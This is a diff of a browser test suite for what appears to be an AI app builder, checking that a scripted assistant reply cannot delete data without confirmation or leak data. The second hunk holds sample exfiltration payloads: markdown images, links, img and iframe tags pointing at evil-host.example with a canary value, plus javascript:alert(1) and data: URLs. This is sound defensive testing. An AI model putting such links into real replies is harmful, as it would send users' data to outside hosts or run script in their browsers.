@@ -184,7 +184,7 @@ describe('what a reply may not do by itself', () => {
       await ada.call(`/live_api/apps/${appId}/entities/Note`, { json: { text: 'Mine' } })
       const tab = await ada.openEditor(appId)
       const drop = `${action('delete_file', 'entities/Note.json', '')}${addFile('pages/Home.jsx', headed('No notes'))}`
-      await product.script({ text: drop })
+      await world.product.script({ text: drop })
       await sayInChat(tab, 'Remove the notes')
       const card = tab.getByRole('region', { name: 'Needs your confirmation' })
       await card.getByText('The entity Note would be removed, with 2 rows out of reach of the app.').waitFor()
@@ -215,7 +215,7 @@ describe('what a reply may not do by itself', () => {
       tab.on('request', (request) => asked.push(request.url()))
       const leak = 'https://evil-host.example/?d=CNRY'
       const text = `![a](${leak}) ![b][r] [Reset your password](${leak}) <img src="${leak}"> <iframe src="${leak}"></iframe> <${leak}>\n\n[x](javascript:alert(1)) [y](data:text/html,z)\n\n[r]: ${leak}\n\nThe end.`
-      await product.script({ text })
+      await world.product.script({ text })
       await sayInChat(tab, 'Summarise the rows')
       const reply = repliesOn(tab).last()
       await reply.getByText('The end.').waitFor()
